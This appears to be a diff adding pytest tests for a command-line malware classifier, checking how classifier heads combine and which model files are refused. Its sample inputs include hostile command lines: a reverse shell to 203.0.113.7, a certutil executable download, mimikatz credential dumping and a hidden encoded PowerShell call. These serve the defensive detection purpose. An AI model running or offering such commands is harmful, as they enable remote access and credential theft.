@@ -1,0 +1,94 @@
+"""A label group: what a file composed of two heads answers, and which files are refused."""
+
+from __future__ import annotations
+
+import json
+
+import numpy as np
+import pandas as pd
+import pytest
+
+pytest.importorskip("torch")
+
+from edge_demist import EdgeDemist
+from edge_demist.format import safetensors
+from edge_demist.format.specialist import read_specialist
+from tools.train import labels
+from tools.train.kept import Kept
+from tools.train.ood import plain_head
+
+TASK = "cmdline"
+TEXTS = [
+    "ls -la /tmp", "notepad.exe notes.txt", "powershell -nop -w hidden -enc SQBFAFgA", "mimikatz.exe privilege::debug", "git status",
+    "certutil -urlcache -f http://203.0.113.7/a.exe a.exe", "cat /etc/hosts", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
+]  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def shipped():
+    with EdgeDemist.load() as model:
+        yield model
+
+
+@pytest.fixture
+def compose(shipped, tmp_path, monkeypatch):
+    """Run the tool on a file whose alarm is one higher in its logit, and return what it wrote."""
+    path = shipped.bundle.path / "specialists" / f"{TASK}.safetensors"
+    metadata, tensors = safetensors.read(path, copy=True)
+    bent = tmp_path / f"{TASK}.safetensors"
+    frame = pd.DataFrame({"text": TEXTS, "label": ["benign", "malicious"] * 4})
+    monkeypatch.setattr(labels, "read_table", lambda *_: frame)
+
+    def run(*more, **changed):
+        safetensors.write(bent, {**tensors, **changed}, metadata)
+        given = ["--data", str(tmp_path), "--task", TASK, "--alarms", str(bent), "--out", str(tmp_path / "out"), *more]
+        assert labels.main(given) == 0
+        return bent, path, tmp_path / "out" / f"{TASK}.safetensors"
+
+    return run
+
+
+def probabilities(shipped, path):
+    one = read_specialist(shipped.bundle, path, TASK)
+    pooled, grams = Kept(shipped, one, TASK, None)(TEXTS)
+    return one, one.probabilities(pooled, grams)
+
+
+def test_alarms_are_of_one_file_and_labels_of_the_other(shipped, compose, capsys):
+    before = read_specialist(shipped.bundle, shipped.bundle.path / "specialists" / f"{TASK}.safetensors", TASK)
+    files = compose("--below", "0.9", **{"head.bias": before.bias + np.float32([0.0, 1.0])})
+    assert json.loads(capsys.readouterr().out)["columns"] == 2
+    (_, alarms), (_, answers), (made, found) = (probabilities(shipped, file) for file in files)
+    above = alarms[:, 1] / alarms.sum(1) >= 0.9
+    assert 0 < above.sum() < len(TEXTS)
+    np.testing.assert_allclose(found[above], alarms[above], rtol=1e-5)
+    free = ~above & (answers[:, 1] / answers.sum(1) < 0.9)
+    np.testing.assert_allclose(found[free], answers[free], rtol=1e-4, atol=1e-7)
+    assert made.thresholds["fpr"] == before.thresholds["fpr"]
+
+
+def test_a_label_group_is_taken_again_and_moved(shipped, compose, tmp_path):
+    first = probabilities(shipped, compose()[2])[1]
+    kept = tmp_path / "kept.safetensors"
+    kept.write_bytes((tmp_path / "out" / f"{TASK}.safetensors").read_bytes())
+    np.testing.assert_allclose(probabilities(shipped, compose("--labels", str(kept))[2])[1], first, atol=1e-6)
+    higher = probabilities(shipped, compose("--labels", str(kept), "--shift", "0.7")[2])[1]
+    low = first[:, 1] / first.sum(1) < 0.3
+    assert low.any()
+    odds = [np.log(x[low, 1] / x[low, 0]) for x in (first, higher)]
+    np.testing.assert_allclose(odds[1] - odds[0], 0.7, atol=1e-3)
+
+
+def test_heads_on_other_vectors_are_refused(shipped, compose):
+    before = read_specialist(shipped.bundle, shipped.bundle.path / "specialists" / f"{TASK}.safetensors", TASK)
+    (layer, target), (down, _) = next(iter(before.adapter.layers.items()))
+    with pytest.raises(SystemExit, match=f"lora.{layer}.{target}.A"):
+        compose(**{f"lora.{layer}.{target}.A": down + np.float32(1e-3)})
+    with pytest.raises(SystemExit, match="first harmless column"):
+        compose("--without", "0")
+
+
+def test_a_head_with_a_label_group_is_not_fitted_again(shipped, compose):
+    made = read_specialist(shipped.bundle, compose()[2], TASK)
+    with pytest.raises(SystemExit, match="label group"):
+        plain_head(made)
